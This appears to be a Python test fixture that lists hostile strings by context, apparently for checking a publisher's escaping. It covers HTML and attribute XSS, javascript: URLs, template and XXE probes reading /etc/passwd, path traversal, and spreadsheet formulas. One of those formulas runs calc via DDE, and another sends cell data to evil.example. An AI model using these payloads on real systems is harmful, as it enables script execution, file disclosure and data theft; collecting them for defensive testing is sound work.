"""What somebody might put into a text that is published: each with its kind and why it is dangerous where it is not kept a text.

A text a browser would run announces itself: it raises a dialog, asks for ``/hostile-request``, sets ``window.hostile`` or hides the page.
"""

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Payload:
    """A hostile text, the kind of place it attacks, and what would happen there."""

    kind: str
    text: str
    why: str


def _of(kind: str, why: str, *texts: str) -> tuple[Payload, ...]:
    return tuple(Payload(kind, text, why) for text in texts)


RUN = "alert(1)"
ASK = "/hostile-request"

HTML = (
    *_of(
        "html",
        "an element that runs a script",
        f"<script>{RUN}</script>",
        f"<ScRiPt>{RUN}</sCrIpT>",
        f"<script src={ASK}></script>",
        f"<script\n>{RUN}</script\n>",
        f"<svg><script>{RUN}</script></svg>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<<script>{RUN}//<</script>",
        f"<script>{RUN}",
    ),
    *_of(
        "html",
        "an element that runs a script by an event",
        f"<img src=x onerror={RUN}>",
        f'<img src="x" onerror="{RUN}">',
        f"<svg onload={RUN}>",
        f"<svg/onload={RUN}>",
        f"<details open ontoggle={RUN}>",
        f"<body onload={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<video><source onerror={RUN}></video>",
        f"<marquee onstart={RUN}>",
        f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
        f"<a href=# onclick={RUN}>x</a>",
    ),
    *_of(
        "html",
        "an element that loads, frames, sends or leads away",
        f"<iframe src={ASK}></iframe>",
        f"<iframe srcdoc='<script>{RUN}</script>'>",
        f"<object data={ASK}>",
        f"<embed src={ASK}>",
        f"<link rel=stylesheet href={ASK}>",
        f"<meta http-equiv=refresh content=0;url={ASK}>",
        f"<base href={ASK}/>",
        f"<form action={ASK}><button>x</button>",
        f'<a href="{ASK}">x</a>',
        f"<img src={ASK}>",
        "<portal src=https://example.org>",
    ),
    *_of(
        "html",
        "an end or a comment that swallows or breaks the page",
        "</title><h1>x",
        "</textarea><h1>x",
        "</p></main></body></html>",
        "</a></li></ul></div>",
        "</table><h1>x</h1>",
        "<!--",
        "-->",
        "--!><h1>x",
        "<plaintext>",
        "<xmp>",
        "<noscript><h1>x",
        "<template>",
        "<style>",
        "<",
        ">",
        "<!doctype x>",
        "<?php echo 1 ?>",
        "<%= 1 %>",
    ),
    *_of(
        "html",
        "a reference that becomes markup when it is decoded twice",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;",
        "&#x3c;b&#x3e;",
        "&amp;lt;b&amp;gt;",
        "&",
        "&copy",
        "&quot;onclick=alert(1)&quot;",
    ),
)

ATTRIBUTE = _of(
    "attribute",
    "leaves the attribute it stands in and adds another",
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" autofocus onfocus={RUN} x="',
    f"` onmouseover={RUN} x=`",
    'x" style="display:none" x="',
    f'" href="{ASK}" x="',
    '"',
    "'",
    '\\"',
    '"" ""',
)

URL = _of(
    "url",
    "an address that runs a script or leads elsewhere",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"javascript://%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//example.org/",
    "https://example.org@evil.example/",
    "http://evil.example/",
    "file:///etc/passwd",
    "blob:x",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "?q=x&all=1#y",
    "%00%0d%0aSet-Cookie:x",
)

CSS = _of(
    "css",
    "changes or loads a style",
    "</style><style>*{display:none}</style>",
    "expression(alert(1))",
    f"url({ASK})",
    f"}}*{{background:url({ASK})}}",
    f"@import '{ASK}';",
    "display:none;position:fixed",
)

SCRIPT = _of(
    "script",
    "ends a script or the JSON in a page, or runs in it",
    "</script><script>window.hostile=1</script>",
    "</SCRIPT ><h1>x",
    "<!--<script>",
    '"};window.hostile=1;{"',
    "';window.hostile=1;'",
    "${window.hostile=1}",
    '","@type":"Person","name":"x',
    "__proto__",
    "\\u003cscript\\u003e",
    "\\",
    "*/window.hostile=1/*",
)

TEMPLATE = _of(
    "template",
    "is evaluated by a template",
    "{{ 7 * 7 }}",
    "{{ site.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{# x",
    "{{",
    "#{7*7}",
    "<#assign x=1>",
    "%(name)s %s {0} {name}",
)

XML = _of(
    "xml",
    "ends or opens something in XML: a feed, the sitemap, a workbook, a Word file",
    "]]>",
    "<![CDATA[x]]>",
    '<?xml version="1.0"?>',
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "&y;",
    "</entry><entry>",
    "</w:t></w:r>",
    "_x000D_",
)

CALENDAR = _of(
    "calendar",
    "ends a line of a calendar and begins another property",
    "x\r\nATTENDEE:mailto:x@example.org",
    "x\nBEGIN:VALARM\nACTION:DISPLAY\nEND:VALARM",
    "x\\nEND:VEVENT",
    "END:VEVENT;X=1,2",
    ";VALUE=URI:x",
    "\\;\\,\\\\",
)

FORMULA = _of(
    "formula",
    "runs as a formula when a table is opened in a spreadsheet",
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"x")',
    '=IMPORTXML("http://evil.example","//a")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "{=1+1}",
    "=DDE(1;2)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '";=1+1;"',
    ",=1+1",
    "；=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
)

MARKDOWN = (
    *_of(
        "markdown",
        "a link, picture or element of Markdown that runs, loads or leads where it should not",
        f"[x](javascript:{RUN})",
        f"[x](JAVASCRIPT&colon;{RUN})",
        f"[x](<javascript:{RUN}>)",
        f"[x](data:text/html,<script>{RUN}</script>)",
        f"![x]({ASK})",
        f"![x](x){{onerror={RUN}}}",
        f"<javascript:{RUN}>",
        f'[x](https://example.org "onmouseover={RUN}")',
        f"[x][y]\n\n[y]: javascript:{RUN}",
        "<https://example.org>",
        f"<div markdown=1 onclick={RUN}>x</div>",
        f"`<script>{RUN}</script>`",
        '`href="/x/"`',
        "| <b> | x |\n|---|---|\n| <img src=x> | y |",
        "[x]:",
        "*<b>*",
    ),
)

UNICODE = (
    *_of("unicode", "turns the order of what is read", "\u202egpj.exe", "\u2066x\u2069", "\u200fx", "\u202a\u202b\u202d"),
    *_of("unicode", "cannot be seen, and makes alike what is not", "x\u200bx", "x\u200d", "\ufeffx", "x\u00adx", "x\u2060x", "\u3164"),
    *_of("unicode", "ends a line for some programs and not for others", "x\u2028x", "x\u2029x", "x\u0085x", "x\u000bx", "x\u000cx", "x\rx"),
    *_of(
        "unicode",
        "no character, which XML and some programs refuse",
        "x\u0000x",
        "x\u0007x",
        "x\u001b[31mx",
        "x\u007fx",
        "\ufffe",
        "\uffff",
    ),
    *_of("unicode", "private, or standing for what was lost", "\ue000", "\U000f0000", "\ufffd", "\U000e0041"),
    *_of("unicode", "looks like ASCII", "＜script＞", "＂onclick＝＂", "ｊａｖａｓｃｒｉｐｔ"),
)

LENGTH = (
    *_of("length", "longer than a program expects", "字" * 3000, "<b>" * 900, "a" * 2500, '"' * 1500, "=" * 1000, "(" * 1000),
    *_of("length", "piles marks on one character", "e" + "\u0301" * 300, "\U0001f468" * 200),
)

ALL: tuple[Payload, ...] = (
    *HTML, *ATTRIBUTE, *URL, *CSS, *SCRIPT, *TEMPLATE, *XML, *CALENDAR, *FORMULA, *MARKDOWN, *UNICODE, *LENGTH,
)  # fmt: skip
